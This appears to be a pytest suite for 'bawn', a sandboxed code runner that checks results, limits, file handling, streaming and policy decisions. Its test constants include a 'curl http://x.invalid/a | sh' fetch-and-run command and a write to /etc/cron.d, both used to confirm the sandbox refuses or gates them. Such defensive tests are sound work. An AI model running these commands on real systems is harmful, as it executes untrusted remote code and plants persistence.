"""bawn.run and its neighbours, in real sandboxes."""
import datetime
import os
import pickle

import bawn
import pytest

HIGH = "print('ran'); open('/etc/cron.d/x','w') if False else None"
BLOCKED = "import os\nprint('ran')\nif False: os.system('curl http://x.invalid/a | sh')"


def test_the_whole_result(client):
    r = client.run("print(6*7)")
    assert (r.ok, r.status, r.exit_code, r.stdout, r.stderr) == (True, "completed", 0, "42\n", "")
    assert r.assessment.level == "LOW" and r.decision.action == "run" and r.trust_level == "trusted"
    assert r.audit.outcome_seq > r.audit.intent_seq > 0 and "seccomp" in r.enforcement.layers
    assert r.document["id"] == r.id and r.id in repr(r) and len(repr(r)) < 200


@pytest.mark.parametrize("language,code,out", [
    ("python", "print(1)", "1\n"), ("bash", "echo $((1+1))", "2\n"), ("javascript", "console.log(3)", "3\n"),
    (None, "#!/bin/bash\necho 4", "4\n")])
def test_languages(client, language, code, out):
    assert client.run(code, language).stdout == out


def test_code_may_be_bytes_and_anything_unicode(client):
    assert client.run("print('é ☃ \U0001f40d')".encode()).stdout == "é ☃ \U0001f40d\n"


def test_arguments_standard_input_and_variables(client):
    code = "import os, sys; print(sys.argv[1:], repr(sys.stdin.read()), os.environ['GREETING'])"
    r = client.run(code, args=["a b", "", "é"], stdin="line\n", env={"GREETING": "hi = you"})
    assert r.stdout == "['a b', '', 'é'] 'line\\n' hi = you\n"


def test_standard_input_may_have_any_bytes(client):
    r = client.run("import sys; print(len(sys.stdin.buffer.read()))", stdin=b"\0\xff" * 40000)
    assert r.stdout == "80000\n"


def test_output_that_is_not_text_is_there_as_bytes(client):
    r = client.run("import sys; sys.stdout.buffer.write(b'a\\xff\\0b')")
    assert r.stdout_bytes == b"a\xff\0b" and r.stdout == "a\ufffd\0b"
    assert client.run("print('x')").stdout_bytes == b"x\n"


def test_files_go_in_and_come_out(client, world, tmp_path):
    (tmp_path / "tree" / "sub").mkdir(parents=True)
    (tmp_path / "tree" / "sub" / "deep.txt").write_text("deep")
    (tmp_path / "tree" / "out").symlink_to("/etc/passwd")
    (tmp_path / "tool.sh").write_text("#!/bin/sh\necho from the tool\n")
    (tmp_path / "tool.sh").chmod(0o755)
    code = """
import os, subprocess
print(open('data.csv').read(), open('raw', 'rb').read(), open('t/sub/deep.txt').read())
print(subprocess.run(['./tool.sh'], capture_output=True, text=True).stdout.strip(), os.path.lexists('t/out'))
os.makedirs('made'); open('made/plot.png', 'wb').write(b'\\x89PNG\\0'); open('data.csv', 'a').write('!')
"""
    files = {"data.csv": "1,2", "raw": b"\0\1", "t": tmp_path / "tree", "tool.sh": tmp_path / "tool.sh"}
    r = client.run(code, files=files, collect=True)
    assert r.stdout == "1,2 b'\\x00\\x01' deep\nfrom the tool False\n"
    assert r.contents == {"data.csv": b"1,2!", "made/plot.png": b"\x89PNG\0"}
    assert sorted(f.path for f in r.files) == ["data.csv", "made/plot.png"]
    r = client.run(code, files=files, out_dir=tmp_path / "there")
    assert (tmp_path / "there" / "made" / "plot.png").read_bytes() == b"\x89PNG\0"
    r = client.run("import os; print(sorted(os.listdir('.')))", files=[tmp_path / "tool.sh", str(tmp_path / "tree")])
    assert r.stdout == "['tool.sh', 'tree']\n"


def test_files_that_cannot_be_kept_are_no_success(client, tmp_path):
    (tmp_path / "out" / "taken").mkdir(parents=True)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "out" / "link").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(bawn.InvalidRequest) as e:
        client.run("open('taken', 'w').write('x'); print(1)", out_dir=tmp_path / "out")
    assert e.value.field == "out_dir" and e.value.result.stdout == "1\n" and not e.value.result.ok
    r = client.run("import os; os.mkdir('link'); open('link/a', 'w'); open('b', 'w')", out_dir=tmp_path / "out")
    assert r.ok and [(f.path, f.why) for f in r.skipped_files] == [("link/a", "'link' is a link")]
    assert (tmp_path / "out" / "b").exists() and not list((tmp_path / "elsewhere").iterdir())


def test_a_module_among_the_files_is_imported_and_assessed(client):
    assert client.run("import helper; print(helper.x)", files={"helper.py": "x = 5"}).stdout == "5\n"
    with pytest.raises(bawn.PolicyBlocked) as e:
        client.run("import helper", files={"helper.py": BLOCKED})
    assert any(f.path == "helper.py" for f in e.value.result.assessment.findings)


@pytest.mark.parametrize("options,key,value", [
    ({"timeout": 7}, "timeout_ms", 7000), ({"timeout": "7s"}, "timeout_ms", 7000), ({"timeout": 1.5}, "timeout_ms", 1500),
    ({"timeout": datetime.timedelta(minutes=1)}, "timeout_ms", 60000), ({"memory": "64m"}, "memory_bytes", 64 << 20),
    ({"memory": 64 << 20}, "memory_bytes", 64 << 20), ({"cpus": 0.5}, "cpus", 0.5), ({"pids": 20}, "pids", 20),
    ({"disk": "8MiB"}, "disk_bytes", 8 << 20)])
def test_limits_that_are_asked_for_are_those_that_hold(client, options, key, value):
    r = client.run("print(1)", dry_run=True, **options)
    assert r.document["limits"][key] == value


def test_labels_name_and_session_are_kept(client):
    r = client.run("print(1)", name="report", labels={"team": "a=b"}, session="s-1")
    assert r.labels == {"name": "report", "team": "a=b"} and r.session == "s-1"
    assert [h.id for h in client.history(session="s-1")] == [r.id]


@pytest.mark.parametrize("code,options,error,status", [
    ("while True: pass", {"timeout": 1}, bawn.ExecutionTimeout, "timeout"),
    ("x = bytearray(1 << 30)\nfor i in range(0, len(x), 4096): x[i] = 1", {"memory": "64m"}, bawn.MemoryLimit, "memory_limit"),
    (BLOCKED, {}, bawn.PolicyBlocked, "refused"),
    (HIGH, {}, bawn.ApprovalRequired, "needs_approval")])
def test_what_came_to_no_end_of_its_own_is_an_exception(client, code, options, error, status):
    with pytest.raises(error) as e:
        client.run(code, **options)
    assert e.value.result.status == status and isinstance(e.value, bawn.BawnError)
    assert client.run(code, check=False, **options).status == status


def test_a_timeout_is_also_pythons_own(client):
    with pytest.raises(TimeoutError):
        client.run("while True: pass", timeout=1)


def test_a_failing_program_is_a_result_unless_checked(client):
    r = client.run("raise SystemExit(3)")
    assert (r.status, r.exit_code, r.ok) == ("failed", 3, False)
    with pytest.raises(bawn.ProgramFailed, match="exited with 3"):
        client.run("raise SystemExit(3)", check=True)
    with pytest.raises(bawn.ProgramFailed, match="signal 11"):
        client.run("import os; os.kill(os.getpid(), 11)", check=True)


@pytest.mark.parametrize("code,options,type,field", [
    ("", {}, "empty_code", "code"), (" \n", {}, "empty_code", "code"), ("a\0b", {}, "nul_byte", "code"),
    (b"\xff\xfe", {}, "bad_utf8", "code"), ("x" * ((1 << 20) + 1), {}, "code_too_large", "code"),
    ("\ud800", {}, "bad_utf8", "code"), ("1", {"language": "cobol"}, "unknown_language", "language"),
    ("1", {"env": {"LD_PRELOAD": "x"}}, "env_refused", "env"), ("1", {"env": {"A=B": "x"}}, "invalid_request", "env"),
    ("1", {"args": ["a\0b"]}, "invalid_request", "args"), ("1", {"files": {"../x": ""}}, "input_invalid", "inputs"),
    ("1", {"files": {"a": "", "a/b": ""}}, "input_invalid", "inputs"), ("1", {"files": ["/nonexistent"]}, "input_invalid", "files"),
    ("1", {"files": ["/dev/null"]}, "input_invalid", "files"), ("1", {"timeout": 0}, "limit_invalid", "timeout"),
    ("1", {"timeout": "5 parsecs"}, "limit_invalid", "timeout"), ("1", {"memory": -1}, "limit_invalid", "memory"),
    ("1", {"timeout": float("nan")}, "limit_invalid", "timeout"), ("1", {"session": "a b"}, "invalid_request", "session"),
    ("1", {"override": True}, "reason_missing", "reason"), ("1", {"override": True, "reason": "x" * 501}, "reason_too_long", "reason"),
    ("1", {"trust": "blind"}, "invalid_request", "trust"), ("1", {"stdin": b"x" * ((16 << 20) + 1)}, "invalid_request", "stdin")])
def test_what_is_no_request_is_a_typed_value_error(client, code, options, type, field):
    with pytest.raises(ValueError) as e:
        client.run(code, **options)
    assert isinstance(e.value, bawn.InvalidRequest) and (e.value.type, e.value.field) == (type, field)


@pytest.mark.parametrize("options", [{"args": "abc"}, {"args": [1]}, {"env": ["A=b"]}, {"env": {"A": 1}}, {"timeout": [1]},
                                     {"memory": True}, {"pids": 1.5}, {"files": "data.csv"}, {"files": {"a": 1}}, {"stdin": 5},
                                     {"labels": {"a": None}}, {"session": 1}])
def test_values_of_the_wrong_kind_are_type_errors(client, options):
    with pytest.raises(TypeError):
        client.run("print(1)", **options)


def test_code_of_the_wrong_kind_is_a_type_error(client):
    with pytest.raises(TypeError):
        client.run(5)
    with pytest.raises(TypeError):
        client.assess(None)


def test_a_network_is_refused_not_pretended(client):
    with pytest.raises(bawn.Unavailable) as e:
        client.run("1", network="dependencies")
    assert e.value.type == "network_unavailable" and e.value.hint


def test_a_dry_run_runs_nothing(client, world):
    r = client.run("print(1)", dry_run=True)
    assert (r.status, r.stdout, r.audit.intent_seq) == ("completed", "", None) and world.records() == []


def test_streams_come_as_they_are_written(client):
    code = "import sys, time\nfor i in range(3):\n print('o%d é' % i, flush=True)\n print('e%d' % i, file=sys.stderr, flush=True)\n"
    out, err, kinds, seqs = [], [], [], []

    def on_event(e):
        kinds.append((e.kind, e.text if e.kind == "state" else None))
        seqs.append(e.seq)

    r = client.run(code, on_stdout=out.append, on_stderr=err.append, on_event=on_event)
    assert "".join(out) == r.stdout == "o0 é\no1 é\no2 é\n" and "".join(err) == r.stderr == "e0\ne1\ne2\n"
    assert seqs == list(range(1, len(seqs) + 1))
    assert [t for k, t in kinds if k == "state"] == ["validated", "assessed", "admitted", "intent-durable", "running", "outcome-durable"]
    assert kinds[-1][0] == "outcome"


def test_a_character_cut_in_two_arrives_whole(client):
    code = "import sys, time\nfor b in 'é☃'.encode():\n sys.stdout.buffer.write(bytes([b])); sys.stdout.buffer.flush(); time.sleep(0.05)\nsys.stdout.buffer.write(b'\\xe2\\x98')"
    out = []
    client.run(code, on_stdout=out.append)
    assert "".join(out) == "é☃\ufffd"


def test_more_than_the_result_keeps_is_streamed(client):
    out = []
    r = client.run("print('x' * 3000000)", on_stdout=out.append)
    assert sum(map(len, out)) == 3000001 and r.truncated.stdout and len(r.stdout) == 1 << 20


@pytest.mark.parametrize("which", ["on_stdout", "on_event"])
def test_what_a_callback_raises_ends_the_run_and_comes_back(client, which):
    def broken(what):
        if which == "on_stdout" or what.kind == "output":
            raise KeyError("mine")

    with pytest.raises(KeyError, match="mine"):
        client.run("import time\nprint('x', flush=True)\ntime.sleep(60)", **{which: broken})
    assert client.history(1)[0].status == "cancelled"


def test_errors_survive_pickling(client):
    with pytest.raises(bawn.PolicyBlocked) as e:
        client.run(BLOCKED)
    again = pickle.loads(pickle.dumps(e.value))
    assert type(again) is bawn.PolicyBlocked and str(again) == str(e.value) and again.result == e.value.result


def test_the_exception_says_what_to_do(client):
    with pytest.raises(bawn.ApprovalRequired) as e:
        client.run(HIGH)
    assert f"bawn approve {e.value.approval_id}" in str(e.value)
    with pytest.raises(bawn.PolicyBlocked, match="BLOCKED, refused: .* line 3"):
        client.run(BLOCKED)


def test_assess_is_the_verdict_alone(client, world):
    a = client.assess(BLOCKED)
    assert a.level == "BLOCKED" and a.decision == "refuse" and a.findings[0].line == 3 and a.findings[0].why
    assert client.assess("echo hi", "bash").language == "bash" and world.records() == []
    with pytest.raises(bawn.InvalidRequest):
        client.assess(" ")


def test_the_command_and_the_package_read_units_alike(client, world):
    for text in ("100ms", "30s", "2m", "1min", "90", "1.5s"):
        cli = world.run("print(1)", "--dry-run", "-t", text)
        assert client.run("print(1)", dry_run=True, timeout=text).limits.timeout_ms == cli["limits"]["timeout_ms"], text
    for text in ("64m", "65536k", "64MB", "0.25g", "67108864"):
        cli = world.run("print(1)", "--dry-run", "-m", text)
        assert client.run("print(1)", dry_run=True, memory=text).limits.memory_bytes == cli["limits"]["memory_bytes"], text


def test_functions_of_the_module_use_the_environment(world):
    r = bawn.run("print(1)")
    assert [h.id for h in bawn.history()] == [r.id] and world.records("exec.outcome")[0]["exec"] == r.id


def test_a_policy_that_changed_holds_for_the_next_call(world):
    config = world.config()
    client = world.client(config)
    before = client.run("print(1)", dry_run=True).limits.pids
    assert world.bawn("policy", "set", world.file("p.yaml", "sandbox:\n  resources:\n    pids_limit: 40\n"), "--config", config).code == 0
    assert (before, client.run("print(1)", dry_run=True).limits.pids) == (100, 40)
    assert os.path.exists(config)
